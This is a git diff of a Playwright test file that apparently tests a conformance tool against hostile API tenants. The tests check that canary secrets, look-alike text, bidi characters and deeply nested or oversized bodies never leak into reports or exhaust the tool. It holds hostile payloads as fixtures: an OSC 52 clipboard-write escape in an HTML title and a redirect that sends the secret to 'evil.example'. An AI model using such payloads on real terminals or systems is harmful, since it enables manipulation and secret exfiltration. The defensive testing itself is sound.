@@ -5,6 +5,7 @@ import type { AddressInfo, Socket } from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { expect, test } from '@playwright/test';
+import { PREFLIGHT_REQUESTS } from '../../src/client/preflight';
 import { EXIT } from '../../src/report/verdict-words';
 import type { ConformanceReport } from '../../src/report/model';
 import { API_BASE_PATH } from '../../src/tenant/defaults';
@@ -12,13 +13,19 @@ import { serve, type RunningTenant } from '../../src/tenant/http';
 import { createReferenceTenant, type Handler } from '../../src/tenant/tenant';
 import { filesUnder, formsOf, searchBytes, searchFiles, type Leak } from '../reports/leak-search';
 import { runConformance, type SuiteRun } from '../reports/run-suite';
+import { xmlProblems } from '../support/xml';
 import {
+  deeplyNested,
   echoingEveryForm,
   floodingSchemaErrors,
+  fullwidth,
+  lookAlikesAndRetryAfter,
   MARKUP_ATTACK,
   paddingBodies,
   TERMINAL_ATTACK,
   throttlingForever,
+  twentyThousandErrorKeys,
+  zeroWidthInterleaved,
 } from './tenants';
 
 /**
@@ -28,12 +35,15 @@ import {
  * keys; tenant text must reach no terminal or report as control or markup; every run ends, bounded.
  */
 const hex = randomBytes(6).toString('hex');
+const more = randomBytes(6).toString('hex');
+// Random like real keys: an ordinary word of 10 letters in a key ("restricted") would be a fragment of it
+// in every test title that says the word, and the output sweep would rightly withhold those reports.
 const CANARY = {
-  id: `canary-key-id-${hex}`,
+  id: `cnry-id-${hex}`,
   // `/` and `+`: a PHP encoder writes `\/`, base64 and percent-encoding differ from the raw text.
-  secret: `CANARY/SECRET+${hex}/must-never-be-written`,
-  restrictedId: `canary-restricted-id-${hex}`,
-  restrictedSecret: `CANARY-RESTRICTED/SECRET-${hex}`,
+  secret: `CNRY/SCRT+${hex}/${more}`,
+  restrictedId: `cnry-rid-${more}`,
+  restrictedSecret: `CNRY-RSCRT/${more}-${hex}`,
 };
 const NEEDLES = Object.values(CANARY).flatMap(formsOf);
 // The tenant's control sequences no output may hold raw: OSC (clipboard, title), screen clear, cursor
@@ -95,7 +105,7 @@ test.beforeAll(async () => {
     }).handle,
   );
   closers.push(() => sameId.close());
-  const stall = await stallingAfter(2, createReferenceTenant({ keys: canaryKeys }).handle);
+  const stall = await stallingAfter(PREFLIGHT_REQUESTS, createReferenceTenant({ keys: canaryKeys }).handle);
   // A short title (the preflight shows at most 120 characters of one): clipboard write, the key, markdown.
   const htmlPage = await rawServer((_req, res) => {
     res.writeHead(502, { 'content-type': 'text/html' });
@@ -103,6 +113,14 @@ test.beforeAll(async () => {
       `<!DOCTYPE html><html><head><title>\u001b]52;c;Y3VybA==\u0007\u202e ${CANARY.secret} # **x**</title></head></html>`,
     );
   });
+  // Round 3 (issue 20): one tenant for the key as Retry-After, in look-alikes and beside XML-forbidden text,
+  // a separate instance for the blind run (each counts its own requests); a deep and a wide one, and the
+  // plain canary tenant over the same files as their baseline.
+  const round3 = await canaryTenant(lookAlikesAndRetryAfter);
+  const round3Blind = await canaryTenant(lookAlikesAndRetryAfter);
+  const deep = await canaryTenant(deeplyNested);
+  const wide = await canaryTenant(twentyThousandErrorKeys);
+  const plain = await canaryTenant();
   const redirect = await rawServer((_req, res) => {
     res.writeHead(302, {
       location: `https://evil.example/${encodeURIComponent(CANARY.secret)}?<img src=x>[a](b)`,
@@ -161,6 +179,21 @@ test.beforeAll(async () => {
       timeoutMs: 180_000,
     },
     htmlPage: { settings: env(htmlPage), cli: true, files: [], timeoutMs: 200_000 },
+    round3: {
+      settings: env(round3.baseUrl, { MEETBIT_BLOB_REPORT: '1' }),
+      cli: true,
+      files: FEW,
+      timeoutMs: 200_000,
+    },
+    round3Blind: {
+      settings: env(round3Blind.baseUrl, { MEETBIT_UNSAFE_NO_REDACTION: '1' }),
+      cli: false,
+      files: FEW,
+      timeoutMs: 200_000,
+    },
+    deep: { settings: env(deep.baseUrl), cli: true, files: FEW, timeoutMs: 200_000 },
+    plain: { settings: env(plain.baseUrl), cli: true, files: FEW, timeoutMs: 200_000 },
+    wide: { settings: env(wide.baseUrl), cli: true, files: FEW, timeoutMs: 200_000 },
     redirect: { settings: env(redirect), cli: true, files: [], timeoutMs: 200_000 },
   };
   // Three at a time: each run is a runner and two workers, and the machine has two cores.
@@ -383,3 +416,78 @@ async function listen(server: Server): Promise<string> {
   );
   return `http://127.0.0.1:${(server.address() as AddressInfo).port}${API_BASE_PATH}`;
 }
+
+test('round 3: the key as Retry-After, fullwidth and zero-width-interleaved: in no output, raw, decoded or folded', () => {
+  const round3 = scenario('round3');
+  expect(round3.run.exitCode, round3.run.stdout.slice(-3000) + round3.run.stderr).toBe(EXIT.doesNotConform);
+  // The attacks happened: 429s were met and checked, the look-alike titles failed the echo check.
+  expect(round3.report.footprint.rateLimited).toBeGreaterThan(0);
+  expect(round3.report.problems.map((problem) => problem.requirement)).toContain(
+    'response.429.header.Retry-After',
+  );
+  expect(round3.report.tests.flatMap((check) => check.failedChecks)).toContain('echo_conformance');
+  expect(existsSync(path.join(round3.dir, 'reports/blob-report'))).toBe(true);
+  expect(existsSync(path.join(round3.dir, 'reports/withheld.txt')), 'nothing needed the sweep').toBe(false);
+  expect(leaksOf(round3)).toEqual([]);
+});
+
+test('round 3 switched off: the scan finds the key from Retry-After raw, and its look-alikes folded', () => {
+  const blind = scenario('round3Blind');
+  const found = leaksOf(blind);
+  // Raw: only the 429s carry the plain secret (as Retry-After); the look-alikes are found only folded.
+  expect(found.some((leak) => leak.needle === CANARY.secret && !leak.where.includes('(folded)'))).toBe(true);
+  expect(found.some((leak) => leak.needle === CANARY.secret && leak.where.includes('(folded)'))).toBe(true);
+  const json = readFileSync(path.join(blind.dir, 'reports/conformance.json'), 'utf8');
+  expect(json).toContain(fullwidth(CANARY.secret));
+  expect(json).toContain(JSON.stringify(zeroWidthInterleaved(CANARY.secret)).slice(1, -1));
+  // Nothing is withheld with redaction off: the sweep is not what hid anything above.
+  expect(existsSync(path.join(blind.dir, 'reports/withheld.txt'))).toBe(false);
+});
+
+test('junit.xml is well-formed XML 1.0 with every hostile tenant; bidi and XML-forbidden text written as escapes', () => {
+  for (const [name] of scenarios) {
+    const file = path.join(scenarios.get(name)!.dir, 'reports/junit.xml');
+    if (!existsSync(file)) continue;
+    expect(xmlProblems(readFileSync(file, 'utf8')), name).toEqual([]);
+  }
+  const round3 = scenario('round3');
+  for (const name of ['conformance.json', 'conformance.md', 'conformance.html', 'junit.xml']) {
+    const text = readFileSync(path.join(round3.dir, 'reports', name), 'utf8');
+    expect(text, name).not.toMatch(/[\ufffe\uffff\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
+  }
+  // Not vacuous: the characters reached the reports, as escapes (JSON doubles the backslash).
+  for (const escape of ['\\\\ufffe', '\\\\ud800', '\\\\u061c', '\\\\u202e'])
+    expect(readFileSync(path.join(round3.dir, 'reports/conformance.json'), 'utf8')).toContain(escape);
+  expect(readFileSync(path.join(round3.dir, 'reports/junit.xml'), 'utf8')).toContain('\\u061c');
+});
+
+test('a body nested a million arrays deep: a MUST failure of its shape, no RangeError, no security problem, bounded', () => {
+  const deep = scenario('deep');
+  const plain = scenario('plain');
+  const output = deep.run.stdout + deep.run.stderr;
+  expect(deep.run.exitCode, output.slice(-3000)).toBe(EXIT.doesNotConform);
+  expect(output).not.toMatch(/RangeError|Maximum call stack/);
+  const problems = deep.report.problems.map((problem) => problem.requirement);
+  expect(problems).toContain('response.400.body');
+  expect(problems.filter((id) => id.startsWith('security.'))).toEqual([]);
+  expect(JSON.stringify(deep.report)).not.toMatch(/RangeError|Maximum call stack/);
+  // Measured against the same files on the plain tenant (printed for the record); the bound is loose
+  // because the runs share a busy machine, far below the 278 s the crash took.
+  console.log(`deep ${deep.run.wallMs} ms, plain ${plain.run.wallMs} ms`);
+  expect(deep.run.wallMs).toBeLessThan(plain.run.wallMs + 60_000);
+});
+
+test('20,000 error keys: conformance.md under 1 MiB, conformance.json under 10 MB, the keys named by count', () => {
+  const wide = scenario('wide');
+  expect(wide.run.exitCode, wide.run.stdout.slice(-3000)).not.toBe(EXIT.suiteError);
+  const md = statSync(path.join(wide.dir, 'reports/conformance.md')).size;
+  const json = statSync(path.join(wide.dir, 'reports/conformance.json')).size;
+  console.log(`20,000 error keys: conformance.md ${md} bytes, conformance.json ${json} bytes`);
+  expect(md).toBeLessThan(1024 * 1024);
+  expect(json).toBeLessThan(10 * 1024 * 1024);
+  const warning = wide.report.problems.find(
+    (problem) => problem.requirement === 'convention.error-names-field',
+  );
+  expect(warning?.received).toMatch(/and 19980 more$/);
+  expect(leaksOf(wide)).toEqual([]);
+});
